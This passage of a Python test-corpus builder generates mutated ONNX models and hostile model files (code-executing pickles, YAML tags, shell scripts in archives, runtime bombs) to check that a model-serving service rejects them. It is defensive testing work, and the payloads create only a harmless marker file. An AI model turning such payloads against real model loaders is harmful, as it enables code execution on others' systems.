        for _ in range(rng.randint(1, 4)):
            if len(out) > 1:
                del out[rng.randrange(len(out))]
    elif kind == 5:  # splice: a slice copied elsewhere
        start = rng.randrange(len(out))
        chunk = out[start:start + rng.randint(1, 32)]
        at = rng.randrange(len(out) + 1)
        out[at:at] = chunk
    else:  # appended garbage
        out += bytes(rng.randrange(256) for _ in range(rng.randint(1, 64)))
    return bytes(out)


def _pick(rng: random.Random, items: Any) -> Any:
    return items[rng.randrange(len(items))] if len(items) else None


def _field_mutation(rng: random.Random, base: onnx.ModelProto) -> bytes:
    """One semantic edit of a parsed model: the bytes stay a well-formed protobuf, so the checks
    after the parse (structure, checker, shapes, onnxruntime) are what must hold."""
    model = onnx.ModelProto()
    model.CopyFrom(base)
    graph = model.graph
    kind = rng.randrange(16)
    node = _pick(rng, graph.node)
    if kind == 0:
        model.ir_version = _pick(rng, [0, 1, 3, 7, 10, 11, 12, 99, 2**62, -1])
    elif kind == 1:
        model.opset_import[0].version = _pick(rng, [0, 1, 6, 7, 13, 17, 21, 22, 99, 2**40, -3])
    elif kind == 2 and node is not None:
        node.op_type = _pick(rng, _OP_TYPES)
    elif kind == 3 and node is not None:
        node.domain = _pick(rng, _DOMAINS)
    elif kind == 4 and node is not None and len(node.input):
        node.input[rng.randrange(len(node.input))] = _pick(rng, ["", "x", "missing", "y", "k"])
    elif kind == 5 and node is not None and len(node.output):
        node.output[rng.randrange(len(node.output))] = _pick(rng, ["", "x", "y", "dup"])
    elif kind == 6 and node is not None:
        attribute = node.attribute.add()
        attribute.name = _pick(rng, ["axis", "keepdims", "alpha", "then_branch", "junk"])
        attribute.type = onnx.AttributeProto.INT
        attribute.i = _pick(rng, _INTS)
    elif kind == 7 and len(graph.node):
        del graph.node[rng.randrange(len(graph.node))]
    elif kind == 8 and node is not None:
        graph.node.add().CopyFrom(node)
    elif kind == 9:
        value = _pick(rng, [*graph.input, *graph.output])
        if value is not None:
            value.type.tensor_type.elem_type = rng.randrange(26)
    elif kind == 10:
        value = _pick(rng, [*graph.input, *graph.output])
        if value is not None and value.type.tensor_type.HasField("shape") and len(value.type.tensor_type.shape.dim):
            dims = value.type.tensor_type.shape.dim
            dims[rng.randrange(len(dims))].dim_value = _pick(rng, _DIMS)
    elif kind == 11:
        values = graph.input if rng.random() < 0.5 else graph.output
        if len(values):
            del values[rng.randrange(len(values))]
    elif kind == 12 and len(graph.initializer):
        tensor = graph.initializer[rng.randrange(len(graph.initializer))]
        choice = rng.randrange(4)
        if choice == 0:
            tensor.data_type = rng.randrange(26)
        elif choice == 1 and len(tensor.dims):
            tensor.dims[rng.randrange(len(tensor.dims))] = _pick(rng, _DIMS)
        elif choice == 2:
            tensor.raw_data = tensor.raw_data[: rng.randrange(len(tensor.raw_data) + 1)]
        else:
            tensor.raw_data += bytes(rng.randint(1, 16))
    elif kind == 13:
        graph.doc_string = "".join(chr(rng.randrange(32, 0x2FF)) for _ in range(rng.randint(1, 64)))
    elif kind == 14 and len(graph.node) > 1:
        nodes = list(graph.node)
        rng.shuffle(nodes)
        del graph.node[:]
        graph.node.extend(nodes)
    else:
        graph.value_info.add().CopyFrom(_float_io(_pick(rng, ["x", "y", "junk"]), [rng.choice(_DIMS)]))
    data: bytes = model.SerializeToString()
    return data


def mutations(bases: dict[str, bytes], count: int, seed: int) -> Iterator[tuple[str, bytes]]:
    """``count`` mutated models, alternating byte-level and protobuf-field edits over the bases."""
    rng = random.Random(seed)
    names = sorted(bases)
    parsed = {name: onnx.load_from_string(bases[name]) for name in names}
    for index in range(count):
        name = names[index % len(names)]
        if rng.random() < 0.5:
            yield name, _byte_mutation(rng, bases[name])
        else:
            yield name, _field_mutation(rng, parsed[name])


# --------------------------------------------------------------------------------------------------
# entry points


def build_corpus(directory: Path, *, seed: int = 0, mutation_count: int = DEFAULT_MUTATIONS,
                 marker: Path | None = None) -> Manifest:
    """Write the corpus under ``directory`` and return its manifest (relative path -> Entry).

    ``marker`` is the file every code-execution payload (pickle ``__reduce__``, YAML tags, shell
    scripts in archives) would create: a test asserts it never appears. Default: ``directory/PWNED``.
    """
    from maas.settings import Limits

    directory = Path(directory).resolve()
    directory.mkdir(parents=True, exist_ok=True)
    marker = Path(marker).resolve() if marker is not None else directory / "PWNED"
    corpus = _Corpus(directory)
    bases = base_models()
    iris = bases["iris"]
    add_pickles(corpus, marker)
    add_torch_zips(corpus, marker)
    add_yaml(corpus, marker)
    add_polyglots(corpus, marker, iris)
    add_archives(corpus, marker, iris)
    add_external_data(corpus)
    add_oversized_protobufs(corpus, iris, Limits().max_nodes)
    add_custom_domains(corpus)
    add_huge_dims(corpus)
    add_runtime_bombs(corpus)
    for index, (base, data) in enumerate(mutations(bases, mutation_count, seed)):
        folder = index // _MUTATIONS_PER_DIR
        corpus.add(f"mutation/{folder:02d}/{index:05d}-{base}.onnx", data, Entry("mutation", "either"))
    manifest_file = directory / "manifest.json"
    manifest_file.write_text(json.dumps({path: asdict(entry) for path, entry in corpus.manifest.items()},
                                        indent=1, sort_keys=True))
    return corpus.manifest


def load_manifest(directory: Path) -> Manifest:
    """The manifest a previous ``build_corpus`` wrote (for tools that only read the corpus)."""
    raw = json.loads((Path(directory) / "manifest.json").read_text())
    return {path: Entry(**fields) for path, fields in raw.items()}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("directory", type=Path, help="where to write the corpus (created if missing)")
    parser.add_argument("--seed", type=int, default=0, help="mutation seed (default 0)")
    parser.add_argument("--mutations", type=int, default=DEFAULT_MUTATIONS,
                        help=f"mutated copies of valid models (default {DEFAULT_MUTATIONS})")
    parser.add_argument("--marker", type=Path, default=None,
                        help="file the code-execution payloads would create (default DIRECTORY/PWNED)")
    args = parser.parse_args(argv)
    manifest = build_corpus(args.directory, seed=args.seed, mutation_count=args.mutations, marker=args.marker)
    counts: dict[str, int] = {}
    for entry in manifest.values():
        counts[entry.kind] = counts.get(entry.kind, 0) + 1
    for kind, number in sorted(counts.items()):
        print(f"{kind:16} {number}")
    print(f"{'total':16} {len(manifest)}  ->  {args.directory}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
